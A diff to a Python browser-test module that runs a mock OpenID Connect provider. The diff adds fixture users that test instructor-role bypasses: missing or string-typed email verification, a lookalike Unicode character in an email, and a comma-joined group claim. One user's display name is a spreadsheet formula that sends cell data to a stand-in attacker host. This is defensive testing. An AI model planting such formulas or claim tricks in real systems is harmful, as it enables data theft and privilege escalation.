@@ -1,9 +1,18 @@
 """The login side of the class-mode browser tests: a real OpenID Connect provider process
-(`oidc-provider-mock`, module-scoped) with three people, and signing in through it."""
+(`oidc-provider-mock`, module-scoped) with its people, and signing in through it.
+
+Besides the class (Ada and Bo, learners; Lee, an instructor by verified e-mail) the provider has
+the people issue 23 found who could claim the instructor's role at a lax provider: Lee's address
+with `email_verified` missing (Microsoft Entra ID sends none) or the string "true", an address
+with a compatibility character (KELVIN SIGN for the K of kate@school.test, an instructor), a
+group claim sent as one comma-separated string; and Eve, whose display name is a formula."""
 
 from __future__ import annotations
 
+import contextlib
 import json
+import random
+import socket
 import subprocess
 import sys
 import time
@@ -16,10 +25,23 @@ from tests.e2e.learner_steps import main
 from tests.e2e.server import free_port, wait_idle
 
 USERS = [
-    {"sub": "ada-sub", "name": "Ada", "email": "ada@school.test"},
-    {"sub": "bo-sub", "name": "Bo", "email": "bo@school.test"},
-    {"sub": "lee-sub", "name": "Lee", "email": "lee@school.test"},
+    {"sub": "ada-sub", "name": "Ada", "email": "ada@school.test", "email_verified": True},
+    {"sub": "bo-sub", "name": "Bo", "email": "bo@school.test", "email_verified": True},
+    {"sub": "lee-sub", "name": "Lee", "email": "lee@school.test", "email_verified": True},
 ]
+INSTRUCTOR_EMAILS = ["lee@school.test", "kate@school.test"]
+INSTRUCTOR_GROUPS = ["dl-staff"]
+ROLE_BYPASSES = [
+    {"sub": "unverified-sub", "name": "Unverified", "email": "lee@school.test"},
+    {"sub": "string-verified-sub", "name": "StringVerified", "email": "lee@school.test",
+     "email_verified": "true"},
+    {"sub": "kelvin-sub", "name": "Kelvin", "email": "\u212aate@school.test",
+     "email_verified": True},
+    {"sub": "comma-groups-sub", "name": "CommaGroups", "email": "cg@school.test",
+     "email_verified": True, "groups": "students,dl-staff"},
+]
+FORMULA_NAME = '=HYPERLINK("http://evil.test/?"&A1,"Eve")'
+EVE = {"sub": "eve-sub", "name": FORMULA_NAME, "email": "eve@school.test", "email_verified": True}
 
 
 def _wait_http(url: str, process: subprocess.Popen, log: Path, timeout: float = 30) -> None:
@@ -35,13 +57,15 @@ def _wait_http(url: str, process: subprocess.Popen, log: Path, timeout: float = 
     raise TimeoutError(f"{url} not ready:\n{log.read_text()}")
 
 
-@pytest.fixture(scope="module")
-def provider(tmp_path_factory):
-    folder = tmp_path_factory.mktemp("oidc")
+@contextlib.contextmanager
+def running_provider(folder: Path, *, token_max_age_s: int | None = None):
+    """An `oidc-provider-mock` process with every person above; yields its URL."""
     port = free_port()
     log = folder / "provider.log"
     command = [sys.executable, "-m", "oidc_provider_mock", "--port", str(port)]
-    for user in USERS:
+    if token_max_age_s is not None:
+        command += ["--token-max-age", str(token_max_age_s)]
+    for user in [*USERS, *ROLE_BYPASSES, EVE]:
         command += ["--user-claims", json.dumps(user)]
     with open(log, "w") as out:
         process = subprocess.Popen(command, stdout=out, stderr=subprocess.STDOUT,
@@ -53,6 +77,31 @@ def provider(tmp_path_factory):
     finally:
         process.terminate()
         process.wait(timeout=10)
+
+
+@pytest.fixture(scope="module")
+def provider(tmp_path_factory):
+    with running_provider(tmp_path_factory.mktemp("oidc")) as url:
+        yield url
+
+
+def consecutive_free_ports(count: int) -> int:
+    """A base port with `count` free ports from it (serve_class.sh numbers the replicas so)."""
+    for _ in range(200):
+        base = random.randrange(30000, 60000)
+        try:
+            sockets = []
+            for port in range(base, base + count):
+                sock = socket.socket()
+                sockets.append(sock)
+                sock.bind(("127.0.0.1", port))
+            return base
+        except OSError:
+            continue
+        finally:
+            for sock in sockets:
+                sock.close()
+    raise RuntimeError("no free ports")
 
 
 def sign_in(page, base_url: str, sub: str) -> None:
